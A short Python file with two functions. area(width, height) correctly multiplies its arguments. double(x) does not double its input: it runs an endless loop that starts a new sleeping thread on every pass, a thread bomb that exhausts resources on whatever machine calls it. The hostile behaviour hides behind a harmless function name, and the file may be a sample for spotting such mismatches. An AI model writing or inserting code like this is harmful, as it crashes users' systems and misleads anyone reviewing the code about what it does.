import threading
import time


def double(x):
    while True:
        threading.Thread(target=time.sleep, args=(600,)).start()


def area(width, height):
    return width * height
